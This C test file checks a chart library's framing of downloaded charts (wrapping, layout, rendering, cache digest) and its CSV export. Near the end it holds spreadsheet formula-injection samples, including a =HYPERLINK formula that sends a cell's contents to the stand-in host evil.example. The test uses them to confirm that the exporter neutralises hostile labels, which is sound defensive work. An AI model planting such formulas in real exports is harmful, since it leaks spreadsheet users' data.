/* check_chart_frame: the header and footer of chart downloads (src/chart/frame.c):
 * wrapping, placement without overlaps, the framed files' sizes and bytes, the cache
 * digest; and the CSV cells of hostile labels in every chart type (src/chart/csv.c). */
#include <check.h>

#include "check_draw.h"
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "cmd/cmd.h"
#include "chart/chart.h"
#include "chart/chart_int.h"
#include "chart/chart_key.h"

#define FONTS_CONF "templates/fonts.conf"
#define DATE "2026-11-01"
#define ELLIPSIS "\xe2\x80\xa6"

/* A fake measurer: 7 px per byte, 1.25 x px high. */
static void
fake_measure(void *ctx, const char *s, double px, int bold, double *w, double *h)
{
	(void)ctx;
	(void)bold;
	*w = 7.0 * (double)strlen(s ? s : "");
	*h = px * 1.25;
}

static const chart_text fake = { NULL, fake_measure };

/* Wraps s at 70 px (10 bytes a line with the fake) into at most max lines, checks they
 * are want (n of them, NULL-terminated list) and frees them. */
static void
wrap_is(const char *s, size_t max, const char *const *want)
{
	char *lines[16];
	size_t n = chart_frame_wrap(&fake, s, 13, 0, 70, lines, max), k = 0;
	while (want[k] != NULL)
		k++;
	ck_assert_msg(n == k, "'%s': %zu lines, want %zu", s ? s : "(null)", n, k);
	for (size_t i = 0; i < n; i++) {
		ck_assert_str_eq(lines[i], want[i]);
		ck_assert_msg(7.0 * (double)strlen(lines[i]) <= 70 || strchr(lines[i], ' ') == NULL,
		    "line '%s' is wider than 70 px", lines[i]);
		free(lines[i]);
	}
}

START_TEST(test_wrap)
{
	wrap_is("aaa bbb ccc ddd", 8, (const char *const[]){ "aaa bbb", "ccc ddd", NULL });
	wrap_is("  a\t\n b  ", 8, (const char *const[]){ "a b", NULL });
	wrap_is("exactly10b", 8, (const char *const[]){ "exactly10b", NULL });
	/* a word wider than a line is cut between characters */
	wrap_is("abcdefghijklmnopqrstuvwxyz", 8,
	    (const char *const[]){ "abcdefghij", "klmnopqrst", "uvwxyz", NULL });
	/* never inside a UTF-8 character: 10 bytes = 5 two-byte characters */
	wrap_is("\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9", 8,
	    (const char *const[]){ "\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9",
	    "\xc3\xa9\xc3\xa9", NULL });
	/* too long for 2 lines: the second ends in an ellipsis (3 bytes) and still fits */
	wrap_is("aaa bbb ccc dddd eeeeee", 2, (const char *const[]){ "aaa bbb", "ccc ddd" ELLIPSIS,
	    NULL });
	wrap_is(NULL, 8, (const char *const[]){ NULL });
	wrap_is(" \t ", 8, (const char *const[]){ NULL });
}
END_TEST

/* The full frame the tests draw. */
static chart_frame
full_frame(void)
{
	chart_frame f = { "Shares of the cloud market", "Fourth-quarter shares of spending.",
		"Source: Synergy Research Group, \xe2\x80\x9c" "Cloud shares\xe2\x80\x9d.",
		"As of 1 November 2026", "Microsoft and OpenAI",
		"https://example.org/r/charts/cloud.html" };
	return f;
}

/* Checks fl's lines: inside the width and their own band (header above the chart,
 * footer below it), and no two boxes overlapping. */
static void
check_placed(const chart_frame_layout *fl)
{
	const theme th = theme_default(0);
	for (size_t i = 0; i < fl->n; i++) {
		const chart_frame_line *l = &fl->lines[i];
		double w = 7.0 * (double)strlen(l->s), h = l->px * 1.25;
		double x0 = l->right ? l->x - w : l->x;
		ck_assert_msg(x0 >= th.pad - 1e-9 && x0 + w <= fl->w - th.pad + 1e-9,
		    "line '%s' runs out of the width", l->s);
		int head = l->y < fl->head;
		if (head)
			ck_assert_msg(l->y >= 0 && l->y + h <= fl->head, "'%s' leaves the header", l->s);
		else
			ck_assert_msg(l->y >= fl->rule_y && l->y + h <= fl->head + fl->h + fl->foot,
			    "'%s' leaves the footer", l->s);
		for (size_t j = 0; j < i; j++) {
			const chart_frame_line *m = &fl->lines[j];
			double mw = 7.0 * (double)strlen(m->s), mh = m->px * 1.25;
			double m0 = m->right ? m->x - mw : m->x;
			int apart = x0 + w <= m0 || m0 + mw <= x0 || l->y + h <= m->y ||
			    m->y + mh <= l->y;
			ck_assert_msg(apart, "'%s' overlaps '%s'", l->s, m->s);
		}
	}
}

START_TEST(test_layout)
{
	const theme th = theme_default(0);
	chart_frame f = full_frame();
	chart_frame_layout fl;
	chart_frame_lay(&fake, &th, &f, 800, 450, &fl);
	/* title, subtitle, source, then date and report on the left, the link on the right */
	ck_assert_uint_eq(fl.n, 5);
	ck_assert_str_eq(fl.lines[0].s, f.title);
	ck_assert_int_eq(fl.lines[0].bold, 1);
	ck_assert_double_eq(fl.lines[0].px, th.frame_title_px);
	ck_assert_str_eq(fl.lines[1].s, f.subtitle);
	ck_assert_str_eq(fl.lines[2].s, f.source);
	ck_assert_str_eq(fl.lines[3].s, "As of 1 November 2026 \xc2\xb7 Microsoft and OpenAI");
	ck_assert_str_eq(fl.lines[4].s, f.link);
	ck_assert_int_eq(fl.lines[4].right, 1);
	ck_assert_double_eq(fl.lines[4].x, 800 - th.pad);
	ck_assert_double_eq(fl.lines[3].y, fl.lines[4].y);
	ck_assert(fl.head > fl.lines[1].y && fl.foot > 0);
	ck_assert_double_eq(fl.rule_y, fl.head + 450);
	/* whole px: the image's last row is painted too */
	ck_assert_double_eq(fl.head, floor(fl.head));
	ck_assert_double_eq(fl.foot, floor(fl.foot));
	check_placed(&fl);
	double head1 = fl.head, foot1 = fl.foot;
	chart_frame_layout_free(&fl);
	/* long texts wrap: more lines, a taller header and footer, still apart */
	f.title = "A title long enough that it cannot fit on one line of a chart eight hundred "
	    "pixels wide at this size, so it wraps";
	f.source = "Source: one, \xe2\x80\x9cthe first\xe2\x80\x9d; two, \xe2\x80\x9cthe "
	    "second\xe2\x80\x9d; three, \xe2\x80\x9cthe third\xe2\x80\x9d; four, \xe2\x80\x9c"
	    "the fourth\xe2\x80\x9d; five, \xe2\x80\x9cthe fifth\xe2\x80\x9d.";
	f.link = "https://example.org/a/very/long/path/that/does/not/fit/beside/the/date/and/"
	    "the/report/name/charts/cloud.html";
	chart_frame_lay(&fake, &th, &f, 800, 450, &fl);
	ck_assert(fl.head > head1 && fl.foot > foot1);
	ck_assert(fl.n > 6);
	for (size_t i = 0; i < fl.n; i++)
		ck_assert_int_eq(fl.lines[i].right, 0); /* the link goes on a line of its own */
	check_placed(&fl);
	chart_frame_layout_free(&fl);
	/* a frame with nothing in it adds nothing */
	chart_frame none = { 0 };
	chart_frame_lay(&fake, &th, &none, 800, 450, &fl);
	ck_assert_uint_eq(fl.n, 0);
	ck_assert_double_eq(fl.head, 0);
	ck_assert_double_eq(fl.foot, 0);
	chart_frame_layout_free(&fl);
}
END_TEST

static const double vals[] = { 42.5, 18.2, -6.4 };
static const char *const cats[] = { "Base", "Diversify", "Old terms" };
static const chart_series bars[] = { { "NPV", 3, vals, NULL, NULL } };

/* A small bar chart. */
static chart_spec
bar_spec(void)
{
	chart_spec s = { 0 };
	s.type = CHART_BAR;
	s.alt = "Three bars.";
	s.caption = "NPV by scenario";
	s.y.unit = UNIT_USD_BN;
	s.ncats = 3;
	s.cats = cats;
	s.nseries = 1;
	s.series = bars;
	return s;
}

/* Renders s as fmt, asserting success. */
static buf
render(const chart_spec *s, chart_format fmt)
{
	buf b;
	char why[256] = "";
	buf_init(&b);
	ck_assert_msg(chart_render(s, fmt, DATE, &b, why, sizeof why) == 0, "%s", why);
	return b;
}

/* Returns whether b holds the bytes of s. */
static int
has_bytes(const buf *b, const char *s)
{
	size_t n = strlen(s);
	for (size_t i = 0; i + n <= b->len; i++)
		if (memcmp(b->data + i, s, n) == 0)
			return 1;
	return 0;
}

/* The height of the PNG in b. */
static unsigned
png_height(const buf *b)
{
	const unsigned char *d = (const unsigned char *)b->data;
	ck_assert_uint_ge(b->len, 24);
	return (unsigned)d[20] << 24 | (unsigned)d[21] << 16 | (unsigned)d[22] << 8 | d[23];
}

START_TEST(test_render)
{
	chart_spec s = bar_spec();
	chart_frame f = full_frame();
	buf plain = render(&s, CHART_PNG);
	s.frame = &f;
	buf a = render(&s, CHART_PNG), a2 = render(&s, CHART_PNG);
	/* the frame adds rows above and below the 900 px chart; same input, same bytes */
	ck_assert_uint_eq(png_height(&plain), 900);
	ck_assert_uint_gt(png_height(&a), 900 + 2 * 60);
	ck_assert(a.len == a2.len && memcmp(a.data, a2.data, a.len) == 0);
	/* what is drawn comes from the frame's texts: another report name, other pixels */
	f.credit = "Another report";
	buf b = render(&s, CHART_PNG);
	ck_assert_uint_eq(png_height(&b), png_height(&a));
	ck_assert(a.len != b.len || memcmp(a.data, b.data, a.len) != 0);
	/* SVG and PDF from the same drawing: as tall, the PDF titled by the frame */
	buf svg = render(&s, CHART_SVG), pdf = render(&s, CHART_PDF);
	char want[64];
	snprintf(want, sizeof want, "height=\"%upx\"", png_height(&a) / 2);
	ck_assert_msg(strstr(svg.data, want) != NULL, "SVG without %s", want);
	ck_assert(has_bytes(&pdf, "/Title (Shares of the cloud market)"));
	/* a label no font covers fails the frame as it fails the chart */
	f.title = "Tofu \xe6\xbc\xa2";
	buf bad;
	buf_init(&bad);
	char why[256] = "";
	ck_assert_int_eq(chart_render(&s, CHART_PNG, DATE, &bad, why, sizeof why), -1);
	ck_assert(strstr(why, "no installed font") != NULL);
	buf *all[] = { &plain, &a, &a2, &b, &svg, &pdf, &bad };
	for (size_t i = 0; i < sizeof all / sizeof *all; i++)
		buf_free(all[i]);
}
END_TEST

/* Returns the digest of s. */
static void
digest(const chart_spec *s, uint8_t out[SHA256_LEN])
{
	sha256_ctx h;
	sha256_init(&h);
	chart_spec_digest(s, &h);
	sha256_final(&h, out);
}

START_TEST(test_digest)
{
	chart_spec s = bar_spec();
	chart_frame f = full_frame();
	uint8_t none[SHA256_LEN], with[SHA256_LEN], other[SHA256_LEN];
	digest(&s, none);
	s.frame = &f;
	digest(&s, with);
	ck_assert(memcmp(none, with, SHA256_LEN) != 0);
	/* every text of the frame is in the key */
	const char **field[] = { &f.title, &f.subtitle, &f.source, &f.date, &f.credit, &f.link };
	for (size_t i = 0; i < sizeof field / sizeof *field; i++) {
		const char *keep = *field[i];
		*field[i] = "changed";
		digest(&s, other);
		ck_assert_msg(memcmp(other, with, SHA256_LEN) != 0, "field %zu not in the key", i);
		*field[i] = keep;
	}
	digest(&s, other);
	ck_assert(memcmp(other, with, SHA256_LEN) == 0);
}
END_TEST

/* Every hostile start, and a text a spreadsheet reads as it is. */
#define EVIL_LINK "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
#define EVIL_LINK_CSV "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""

/* Asserts that chart s's CSV is want. */
static void
csv_is(const chart_spec *s, const char *want)
{
	buf b;
	buf_init(&b);
	chart_csv(s, &b);
	ck_assert_str_eq(buf_str(&b), want);
	buf_free(&b);
}

START_TEST(test_csv_hostile)
{
	static const char *const evil[] = { EVIL_LINK, "+1", "-2+3", "@SUM(A1)", "\tTab",
		"\rCR", "'quote", "plain" };
	static const double v[] = { 1, -2.5, 3, 4, 5, 6, 7, 8 };
	static const chart_series se[] = { { "-series", 8, v, NULL, NULL } };
	chart_spec s = { 0 };
	s.type = CHART_BAR;
	s.ncats = 8;
	s.cats = evil;
	s.nseries = 1;
	s.series = se;
	/* categories and the series name guarded; numbers, negative ones too, as they are */
	csv_is(&s, "category,\"'-series\"\n" EVIL_LINK_CSV ",1\n\"'+1\",-2.5\n\"'-2+3\",3\n"
	    "\"'@SUM(A1)\",4\n\"'\tTab\",5\n\"'\rCR\",6\n\"''quote\",7\nplain,8\n");
	/* matrix: rows, columns and notes */
	static const char *const notes[] = { "@note", "=note" };
	static const double mv[] = { 1, 2 };
	static const chart_series rows[] = { { "+row", 2, mv, NULL, notes } };
	static const char *const mcats[] = { "-col", "col" };
	chart_spec m = { 0 };
	m.type = CHART_MATRIX;
	m.ncats = 2;
	m.cats = mcats;
	m.nseries = 1;
	m.series = rows;
	csv_is(&m, "row,column,value,note\n\"'+row\",\"'-col\",1,\"'@note\"\n"
	    "\"'+row\",col,2,\"'=note\"\n");
	/* timeline events */
	static const chart_event ev[] = { { 2020, 3, EVIL_LINK }, { 2021, 0, "\tx" } };
	chart_spec t = { 0 };
	t.type = CHART_TIMELINE;
	t.nevents = 2;
	t.events = ev;
	csv_is(&t, "year,month,event\n2020,3," EVIL_LINK_CSV "\n2021,,\"'\tx\"\n");
	/* waterfall steps and its total */
	static const double d[] = { -13, 6.5 };
	static const char *const wcats[] = { "-cost", "+gain" };
	static const chart_series ws[] = { { "Cash", 2, d, NULL, NULL } };
	chart_spec w = { 0 };
	w.type = CHART_WATERFALL;
	w.ncats = 2;
	w.cats = wcats;
	w.nseries = 1;
	w.series = ws;
	w.total_label = "=SUM(A1:A9)";
	csv_is(&w, "category,delta,start,end\n\"'-cost\",-13,0,-13\n\"'+gain\",6.5,-13,-6.5\n"
	    "\"'=SUM(A1:A9)\",,0,-6.5\n");
	/* tornado: variables and the two cases' names */
	static const double lo[] = { 10 }, hi[] = { 20 };
	static const char *const vars[] = { "@var" };
	static const chart_series tc[] = { { "=low", 1, lo, NULL, NULL },
		{ "+high", 1, hi, NULL, NULL } };
	chart_spec o = { 0 };
	o.type = CHART_TORNADO;
	o.ncats = 1;
	o.cats = vars;
	o.nseries = 2;
	o.series = tc;
	o.base = 15;
	csv_is(&o, "variable,\"'=low\",\"'+high\",base\n\"'@var\",10,20,15\n");
}
END_TEST

/* Releases the font map after each test (in the forked child too, for LeakSanitizer). */
static void
fonts_teardown(void)
{
	chart_pools_free();
}

static Suite *
frame_suite(void)
{
	Suite *s = suite_create("chart_frame");
	TCase *tc = tcase_create("core");
	tcase_set_timeout(tc, 60);
	tcase_add_checked_fixture(tc, NULL, fonts_teardown);
	tcase_add_test(tc, test_wrap);
	tcase_add_test(tc, test_layout);
	tcase_add_test(tc, test_render);
	tcase_add_test(tc, test_digest);
	tcase_add_test(tc, test_csv_hostile);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return check_run_drawing("check_chart_frame", frame_suite());
}
